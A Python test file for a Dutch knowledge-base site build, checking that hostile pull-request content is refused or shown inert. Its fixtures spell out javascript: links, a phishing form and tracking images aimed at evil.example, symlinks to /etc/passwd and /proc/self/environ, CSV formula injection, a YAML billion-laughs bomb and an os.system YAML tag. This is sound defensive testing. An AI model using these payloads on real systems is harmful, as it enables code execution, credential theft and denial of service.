"""A hostile corpus: every way a pull request was found to attack the build is refused or inert.

Each case names the finding it covers (issue 11). "Refused" means: the validator and
the build stop with a Dutch ``pad:regel: veld: melding`` message, quickly, without
a traceback. "Inert" means: the page is built and the payload is shown as text.
Hostile files that could crash or hang a process are checked in a child process
with a time limit, so that a segfault or a hang fails the test instead of pytest.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from macros.editor_markdown import EditorMarkdown, markdown_problems
from macros.exports import EXPORTS, csv_cell
from macros.load import check_content

from .conftest import ROOT, build, make_site

CASE = """---
id: aanval
titel: {titel}
samenvatting: Samenvatting.
organisaties: [Gemeente Voorbeeldstad]
domein: sociaal
typering: {{domein: {{rapport: "5.1.1"}}}}
bron:
  rapport: ["5.1.1"]
toegevoegd: 2026-01-10
bijgewerkt: 2026-02-01
{extra}---

## Wat is er gedaan

{body}
"""


def write_case(content: Path, *, titel: str = "Aanval", body: str = "Tekst.", extra: str = "", name: str = "aanval") -> Path:
    path = content / "praktijkvoorbeelden" / f"{name}.md"
    path.write_text(CASE.format(titel=titel, body=body, extra=extra).replace("id: aanval", f"id: {name}"), encoding="utf-8")
    return path


def problems_of(content: Path) -> list:
    kennisbank, problems = check_content(content)
    assert kennisbank is None, "this content should have been refused"
    return [p for p in problems if not p.warning]


def messages(content: Path) -> str:
    return "\n".join(str(p) for p in problems_of(content))


def validate_in_child(content: Path, timeout: float = 60) -> subprocess.CompletedProcess:
    """scripts/validate.py in its own process: a crash or hang cannot take the test run with it."""
    return subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "validate.py"), str(content)],
        capture_output=True, text=True, timeout=timeout, cwd=ROOT,
    )


# ---------------------------------------------------------------- 1. script through editor Markdown

CONFIG_PAYLOAD = '`{"search":"data:text/javascript,alert(1)"}`{: #__config }'


@pytest.mark.parametrize("folder", ["praktijkvoorbeelden", "risicos", "leerlijnen"])
def test_attribute_list_setting_the_theme_config_is_refused_in_every_body(content, folder):
    path = next((content / folder).glob("*.md"))
    path.write_text(path.read_text(encoding="utf-8") + f"\n{CONFIG_PAYLOAD}\n", encoding="utf-8")
    found = problems_of(content)
    assert len(found) == 1 and found[0].field == "tekst" and "attributen tussen accolades" in found[0].message
    assert found[0].line == len(path.read_text(encoding="utf-8").split("\n")) - 1


def test_attribute_lists_are_inert_even_when_not_validated():
    html = str(EditorMarkdown().render(CONFIG_PAYLOAD + "\n\n[x](https://example.org \"titel\")\n\n## __config\n").html)
    assert 'id="__config"' not in html and "{: #__config }" in html  # shown as text, not applied
    assert 'id="config"' in html and "title=" not in html.replace('title="Link naar dit kopje"', "")
    assert "data-" not in html and "class=" not in html.replace('class="headerlink"', "")


def test_heading_ids_of_editors_never_enter_the_theme_or_template_namespace():
    html = str(EditorMarkdown().render("## __search\n\nx\n\n## kb-bron\n\ny\n").html)
    assert 'id="search"' in html and 'id="kb-bron"' not in html


# ---------------------------------------------------------------- 2. build-machine files

def test_symlink_in_docs_stops_the_build_and_publishes_nothing(tmp_path, content):
    site = make_site(tmp_path / "project", content)
    (site / "docs" / "env.png").symlink_to("/proc/self/environ")
    (site / "docs" / "map").symlink_to("/etc", target_is_directory=True)
    result = build(site, check=False)
    assert result.returncode != 0
    assert "docs/env.png: dit is een symbolische link" in result.stderr
    assert "docs/map: dit is een symbolische link" in result.stderr
    assert "passwd" not in result.stderr and "Traceback" not in result.stderr
    assert not (site / "site").exists()


def test_symlink_in_overrides_stops_the_build(tmp_path, content):
    site = make_site(tmp_path / "project", content)
    (site / "overrides" / "partials" / "x.html").symlink_to("/etc/passwd")
    result = build(site, check=False)
    assert result.returncode != 0 and "overrides/partials/x.html: dit is een symbolische link" in result.stderr


def test_symlinks_in_content_are_refused_without_listing_their_target(content):
    (content / "praktijkvoorbeelden" / "env.md").symlink_to("/proc/self/environ")
    (content / "risicos" / "etc").symlink_to("/etc", target_is_directory=True)
    (content / "leerlijnen" / "nul.md").symlink_to("/dev/zero")
    text = messages(content)
    assert "content/praktijkvoorbeelden/env.md: dit is een symbolische link" in text
    assert "content/risicos/etc: dit is een symbolische link" in text
    assert "content/leerlijnen/nul.md: dit is een symbolische link" in text
    assert "passwd" not in text and "hosts" not in text


def test_special_files_are_not_read(content):
    os.mkfifo(content / "praktijkvoorbeelden" / "pijp.md")
    assert "content/praktijkvoorbeelden/pijp.md: dit is geen gewoon bestand" in messages(content)


def test_dotfiles_in_collections_are_refused(content):
    (content / "praktijkvoorbeelden" / ".verborgen.md").write_text("x", encoding="utf-8")
    (content / ".notities").write_text("x", encoding="utf-8")
    text = messages(content)
    assert "content/praktijkvoorbeelden/.verborgen.md: bestanden en mappen waarvan de naam met een punt begint" in text
    assert "content/.notities: bestanden en mappen waarvan de naam met een punt begint" in text


# ---------------------------------------------------------------- 3. readers sent to other hosts

@pytest.mark.parametrize(
    "body, fragment",
    [
        ('![a](x.png){: src="/\\evil.example/px.png"}', "attributen tussen accolades"),
        ("![kaart](/\\\\evil.example/a.png)", "staat op een andere website"),
        ("![kaart](//evil.example/a.png)", "staat op een andere website"),
        ("![kaart](https://evil.example/a.png)", "staat op een andere website"),
        ("[klik](jav&#x61;script:alert(1))", "adressen met 'javascript:' zijn niet toegestaan"),
        ("[klik](data:text/html,x)", "adressen met 'data:' zijn niet toegestaan"),
        ("[a]: javascript:alert(1)\n\n[klik][a]", "adressen met 'javascript:' zijn niet toegestaan"),
    ],
)
def test_links_and_images_are_judged_as_a_browser_reads_them(content, body, fragment):
    write_case(content, body=body)
    assert fragment in messages(content)


def test_protocol_relative_links_are_normal_external_links():
    html = str(EditorMarkdown().render("[x](//andere.example/pagina)").html)
    assert html == '<p><a href="//andere.example/pagina" rel="noopener">x</a></p>'


def test_markdown_fields_in_yaml_follow_the_same_rules(content):
    advices = content / "adviezen.yaml"
    advices.write_text(advices.read_text(encoding="utf-8").replace("tekst: Doe iets *verstandigs*.", "tekst: '[klik](javascript:alert(1)) <b>vet</b>'"), encoding="utf-8")
    chapters = content / "hoofdstukken.yaml"
    chapters.write_text(chapters.read_text(encoding="utf-8").replace("conclusie: Het begin.", "conclusie: |-\n    Het begin.\n\n    ![x](https://evil.example/x.png)"), encoding="utf-8")
    found = {(p.path, p.line, p.field, p.message.split(" ")[0]) for p in problems_of(content)}
    assert ("content/adviezen.yaml", 3, "tekst", "HTML") in found
    assert ("content/adviezen.yaml", 3, "tekst", "het") in found  # the link
    assert ("content/hoofdstukken.yaml", 6, "conclusie", "de") in found  # the image, on its own line


# ---------------------------------------------------------------- 4. raw HTML

def test_comment_trick_is_refused_and_inert(content):
    payload = '<!--><form action="https://evil.example"><input type="password" name="p">-->'
    write_case(content, body=payload)
    assert "HTML-commentaar" in messages(content)
    html = str(EditorMarkdown().render(payload).html)
    assert "<form" not in html and "<input" not in html and "&lt;form" in html


# ---------------------------------------------------------------- 5. CSV formulas

@pytest.mark.parametrize("value", ["=HYPERLINK(\"https://evil.example\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_never_start_a_formula(value):
    assert csv_cell(value).startswith("'")
    assert csv_cell("Gewone titel") == "Gewone titel"


def test_formula_title_is_neutralised_in_the_built_csv(tmp_path, content):
    write_case(content, titel="'=HYPERLINK(\"https://evil.example\",\"klik\")'")
    site = make_site(tmp_path / "project", content)
    build(site)
    text = (site / "site" / "open-data" / "praktijkvoorbeelden.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and ',=HYPERLINK' not in text and ',"=HYPERLINK' not in text
    assert {e.name for e in EXPORTS} >= {"praktijkvoorbeelden"}


# ---------------------------------------------------------------- 6. tiny files that crash or hang

BILLION_LAUGHS = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ni: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]\n"


@pytest.mark.parametrize(
    "name, front, body, fragment",
    [
        ("miljard", BILLION_LAUGHS, "x", "Ankers en verwijzingen"),
        ("recursief", "a: &a [*a]\n", "x", "Ankers en verwijzingen"),
        ("haken", "titel: " + "[" * 100_000 + "]" * 100_000 + "\n", "x", "dieper genest dan"),
        ("cijfers", "titel: " + "7" * 5000 + "\n", "x", "de tekst is 5000 tekens lang; het maximum is 90"),
        ("blokhaken", "", "[" * 100_000, "deze regel is 100000 tekens lang"),
        ("haken-per-alinea", "", "\n".join(["[a](b)"] * 1000), "meer dan 60 '['"),
        ("commentaren", "", "\n".join(["<!--" * 900] * 22), "HTML-commentaar"),
        ("tag", "titel: !!python/object/apply:os.system ['id']\n", "x", "YAML-tag"),
    ],
    ids=lambda value: value if isinstance(value, str) and len(value) < 20 and "\n" not in value else "",
)
def test_hostile_files_are_refused_quickly_in_a_child_process(content, name, front, body, fragment):
    path = content / "praktijkvoorbeelden" / f"{name}.md"
    path.write_text(f"---\nid: {name}\n{front}---\n\n{body}\n", encoding="utf-8")
    result = validate_in_child(content, timeout=30)
    assert result.returncode == 1, result.stderr[-2000:]
    assert fragment in result.stderr, result.stderr[-2000:]
    assert "Traceback" not in result.stderr and "Interne fout" not in result.stderr
    assert f"content/praktijkvoorbeelden/{name}.md:" in result.stderr


def test_a_case_linked_to_dev_zero_is_refused_in_a_child_process(content):
    (content / "praktijkvoorbeelden" / "nul.md").symlink_to("/dev/zero")
    result = validate_in_child(content, timeout=30)
    assert result.returncode == 1 and "nul.md: dit is een symbolische link" in result.stderr


def test_validator_patterns_stay_linear():
    # 80 KB of comment openers once took 18 s; the rules scan each line once.
    problems = markdown_problems("<!--" * 20_000 + "\n" + "`" * 4000 + "\n" + "{" * 4000)
    assert problems and all(isinstance(offset, int) for offset, _ in problems)


# ---------------------------------------------------------------- 7. silent loss and corruption

@pytest.mark.parametrize("folder, kind", [("risicos", "risicokaart"), ("leerlijnen", "leerlijn")])
def test_an_item_called_index_is_refused(content, folder, kind):
    source = next((content / folder).glob("*.md"))
    text = source.read_text(encoding="utf-8")
    old_id = source.stem
    (content / folder / "index.md").write_text(text.replace(f"id: {old_id}", "id: index"), encoding="utf-8")
    found = [p for p in problems_of(content) if p.path.endswith("/index.md")]
    assert found and found[0].field == "id" and "'index' is gereserveerd voor een pagina van de site" in found[0].message


def test_a_municipality_called_index_is_refused(content):
    path = content / "gemeenten.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "- id: index\n  naam: Index\n  bron:\n    rapport: [\"3.5\"]\n", encoding="utf-8")
    assert "content/gemeenten.yaml:11: id: 'index' is gereserveerd" in messages(content)


def test_a_case_alias_equal_to_a_facet_is_refused_with_its_line(content):
    write_case(content, extra="aliassen: [domein, oud-adres]\n")
    found = problems_of(content)
    assert [(p.line, p.field) for p in found] == [(12, "aliassen[0]")]
    assert "'domein' is gereserveerd" in found[0].message


def test_an_alias_taken_twice_names_its_line(content):
    write_case(content, extra="aliassen: [wijkmonitor]\n")
    found = problems_of(content)
    assert [(p.path, p.line, p.field) for p in found] == [("content/praktijkvoorbeelden/aanval.md", 12, "aliassen[0]")]
    assert "al het id of oude id van 'wijkmonitor'" in found[0].message


def test_an_index_on_a_vocabulary_that_cases_do_not_use_is_refused(content):
    taxonomy = content / "taxonomie.yaml"
    text = taxonomy.read_text(encoding="utf-8")
    assert "risicosoort:\n" in text
    taxonomy.write_text(text.replace("risicosoort:\n", "risicosoort:\n  index: true\n", 1), encoding="utf-8")
    found = problems_of(content)
    assert len(found) == 1 and found[0].field == "risicosoort.index"
    assert "alleen voor kenmerken van praktijkvoorbeelden" in found[0].message


@pytest.mark.parametrize("character", ["\x85", "\x9b", "\x00", "\x1b", "\u202e", "\x7f"])
def test_control_characters_are_refused_everywhere(content, character):
    write_case(content, titel=f"Titel{character}met stuurteken")
    found = problems_of(content)
    assert len(found) == 1 and found[0].line == 3 and "onzichtbaar stuurteken" in found[0].message


def test_a_trailing_newline_does_not_make_an_identifier(content):
    write_case(content, extra='aliassen: ["oud-adres\\n"]\n')
    found = problems_of(content)
    assert [p.field for p in found] == ["aliassen[0]"] and "geen geldig id" in found[0].message


def test_two_claims_on_one_output_path_name_both(content):
    from macros.model import Kennisbank
    from macros.site_plan import output_collisions

    kennisbank, _ = check_content(content)
    collisions = output_collisions(kennisbank)
    assert collisions == []
    # A redirect at an existing page: made by hand, because validation refuses it earlier.
    case = kennisbank.cases[0]
    faked = Kennisbank(kennisbank.taxonomy, {**kennisbank.items, "praktijkvoorbeelden": (case.model_copy(update={"aliassen": ("domein",)}).with_source(case._source),)})
    (owner, message), = output_collisions(faked)
    assert owner == "content/praktijkvoorbeelden/wijkmonitor.md"
    assert "/praktijkvoorbeelden/domein/index.html" in message and "content/taxonomie.yaml" in message


def test_a_docs_file_at_a_generated_address_is_refused(tmp_path, content):
    site = make_site(tmp_path / "project", content)
    (site / "docs" / "praktijkvoorbeelden").mkdir()
    (site / "docs" / "praktijkvoorbeelden" / "wijkmonitor.md").write_text("# Kaping\n", encoding="utf-8")
    result = build(site, check=False)
    assert result.returncode != 0
    assert "Twee bestanden claimen hetzelfde adres /praktijkvoorbeelden/wijkmonitor.md" in result.stderr


def test_markdown_in_the_reader_tools_follows_the_same_rules(content):
    """The self-scan and the worksheet are content too: their Markdown is checked like a body."""
    (content / "zelfscan_aspecten.yaml").write_text(
        "- id: visie\n  titel: Visie\n  uitleg: 'Tekst {: #__config }'\n  stappen:\n"
        "    agendering:\n      uitleg: '[klik](javascript:alert(1))'\n  bron:\n    rapport: [\"7.1\"]\n",
        encoding="utf-8",
    )
    (content / "denkkader.yaml").write_text(
        "- nummer: 1\n  titel: Visie\n  uitleg: '<!--><form>'\n  vragen: [Waarom?]\n  bron:\n    rapport: [\"12.3\"]\n",
        encoding="utf-8",
    )
    found = {(p.path, p.line, p.field, p.message.split(" ")[0]) for p in problems_of(content)}
    assert ("content/zelfscan_aspecten.yaml", 3, "uitleg", "attributen") in found
    assert ("content/zelfscan_aspecten.yaml", 6, "stappen.agendering.uitleg", "het") in found
    assert ("content/denkkader.yaml", 3, "uitleg", "HTML-commentaar") in found
